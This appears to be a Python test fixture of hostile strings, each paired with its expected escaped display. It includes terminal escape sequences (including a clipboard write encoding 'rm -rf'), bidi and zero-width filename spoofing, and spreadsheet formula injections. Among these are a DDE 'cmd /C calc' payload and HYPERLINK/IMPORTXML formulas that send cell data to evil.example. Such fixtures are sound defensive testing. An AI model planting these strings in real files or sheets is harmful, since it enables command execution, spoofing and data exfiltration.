"""Hostile texts, each beside what a person must see of it."""

TERMINAL = {
    "\x1b[31mred\x1b[0m": "^[[31mred^[[0m",
    "\x1b]0;owned\x07": "^[]0;owned^G",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\": "^[]8;;http://evil.example^[\\click^[]8;;^[\\",
    "\x1b]52;c;cm0gLXJm\x07": "^[]52;c;cm0gLXJm^G",
    "\x1b[2J\x1b[H": "^[[2J^[[H",
    "\x1bc": "^[c",
    "\x1bP$q\x1b\\": "^[P$q^[\\",
    "\x1b(0lqk": "^[(0lqk",
    "\x9b31mred": "<U+009B>31mred",
    "\x9d0;owned\x9c": "<U+009D>0;owned<U+009C>",
    "\x90q\x85": "<U+0090>q<U+0085>",
    "two\nlines": "two^Jlines",
    "over\rwritten": "over^Mwritten",
    "tab\tbed": "tab^Ibed",
    "back\x08\x08space": "back^H^Hspace",
    "bell\x07": "bell^G",
    "nul\x00": "nul^@",
    "vt\x0bff\x0c": "vt^Kff^L",
    "shift\x0eout\x0f": "shift^Nout^O",
    "fs\x1cgs\x1drs\x1eus\x1f": "fs^\\gs^]rs^^us^_",
    "del\x7f": "del^?",
    "line\u2028paragraph\u2029": "line<U+2028>paragraph<U+2029>",
    "invoice\u202efdp.exe": "invoice<U+202E>fdp.exe",
    "a\u2066b\u2069\u200e\u200f\u061c": "a<U+2066>b<U+2069><U+200E><U+200F><U+061C>",
    "zero\u200bwidth\u2060\ufeff\u180e": "zero<U+200B>width<U+2060><U+FEFF><U+180E>",
    "tag\U000e0041\U000e007f": "tag<U+E0041><U+E007F>",
    "note\ufff9over\ufffb": "note<U+FFF9>over<U+FFFB>",
    "half\ud83d": "half<U+D83D>",
}

MARKUP = ["[bold]x[/bold]", "[link=http://evil.example]x[/link]", "see [/etc/passwd] now", "[ERROR]", "[a=b]", ":boom:"]

# Rows of printable text that a screen must show as they are.
HARMLESS = [
    "\U0001f469\u200d\U0001f680 \U0001f525 \u2764\ufe0f",  # emoji, with ZWJ and a variation selector
    "cafe\u0301 \u00fc \u00df",  # combining accent
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629",  # Arabic
    "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",  # Persian, with ZWNJ
    "\u0915\u094d\u200d\u0937",  # Devanagari, with ZWJ
    "\u65e5\u672c\u8a9e\u00a0\u3000x",
]

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "'=1+1",
    "''=1+1",
    "'plain",
    '"=1+1',
    '"",=1+1',
    "x;=1+1",
    'x;"=1+1',
    "x; =1+1",
    "x\t=1+1",
    "x,=1+1",
    "x\n=1+1",
    "x\r=1+1",
    ";=1&",
    "x;@SUM(1)",
    "x;;-1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"ok")',
    '+IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
    "\uff1d1+1",
    "x;\uff0b1",
    "-5",
    "\\=1+1",
    "\\x3D1+1",
]
